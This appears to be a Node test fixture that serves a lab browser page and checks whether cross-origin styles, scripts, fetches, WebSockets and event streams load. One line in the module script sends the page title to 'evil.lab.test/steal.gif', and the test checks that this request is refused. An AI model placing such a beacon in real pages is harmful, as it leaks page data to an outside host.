// SPDX-License-Identifier: Apache-2.0
// A page for browsers, with parts from several origins: style, script, module, image, fetch, frame, WebSocket, event stream.
// index.html?ID holds an image that comes when the script is done, so the page is loaded then and not before.
const A = "https://a.node.lab.test", B = "https://b.node.lab.test", C = "https://c.node.lab.test";
const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

const index = id => `<!doctype html><title>lab</title><link rel=stylesheet href="${B}/page/style.css"><body>
<img id=image src="${C}/page/pixel.gif"><iframe src="${B}/page/frame.html"></iframe><pre id=out></pre>
<img src="${B}/heard/${id}/0">
<script src="${B}/page/classic.js"></script><script type=module src="${A}/page/module.mjs"></script></body>`;

const MODULE = `const out = {}, id = location.search.slice(1);
const put = (k, v) => { out[k] = v; document.getElementById("out").textContent = JSON.stringify(out); };
const word = async (url, options) => { try { const r = await fetch(url, options); return r.status + " " + (await r.text()).length; }
	catch (e) { return String(e); } };
put("classic", window.classic);
put("style", getComputedStyle(document.body).backgroundColor);
const image = document.getElementById("image");
put("image", await image.decode().then(() => image.naturalWidth));
const inner = document.createElement("img");
const refused = new Promise(r => { inner.onload = () => r("loaded"); inner.onerror = () => r("refused"); });
inner.src = "https://evil.lab.test/steal.gif?" + document.title;
put("evil", await refused);
put("same", await word("${A}/bytes/100000"));
put("cross", await word("${B}/page/cors", { method: "POST", body: "x".repeat(200000) }));
put("preflight", await word("${B}/page/cors", { method: "PUT", headers: { "x-own": "1" }, body: "x" }));
put("denied", await word("${A}/denied/x"));
put("many", (await Promise.all([...Array(40).keys()].map(i => word("${A}/bytes/5000?" + i)))).every(w => w === "200 5000"));
const ws = new WebSocket("wss://c.node.lab.test/ws/echo");
ws.onerror = () => put("ws", "error");
put("ws", await new Promise(r => { ws.onopen = () => ws.send("through"); ws.onmessage = m => r(m.data); ws.onclose = () => r("closed"); }));
const events = [];
const source = new EventSource("${A}/sse/sse" + id + "/3");
await new Promise(r => {
	source.onmessage = m => { events.push(m.data); fetch("${A}/ack/sse" + id + "/" + m.lastEventId, { method: "POST" }); };
	source.addEventListener("times", () => { source.close(); r(); });
	source.onerror = () => { source.close(); r(); };
});
put("events", events.join());
put("done", true);
fetch("${A}/ack/" + id + "/0", { method: "POST" });
`;

export function page(req, res, url, answer) {
	const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "*", "access-control-allow-methods": "*" };
	const parts = { "style.css": ["text/css", "body { background: rgb(1, 2, 3) }"], "classic.js": ["text/javascript", "window.classic = 'ran';"],
		"pixel.gif": ["image/gif", PIXEL], "frame.html": ["text/html", "<p>a frame</p>"], "module.mjs": ["text/javascript", MODULE],
		"index.html": ["text/html", index(url.search.slice(1))], cors: ["text/plain", "yes"] };
	const part = parts[url.pathname.slice("/page/".length)];
	part ? answer(res, 200, part[1], { "content-type": part[0], ...cors }) : answer(res, 404, "no such part");
}
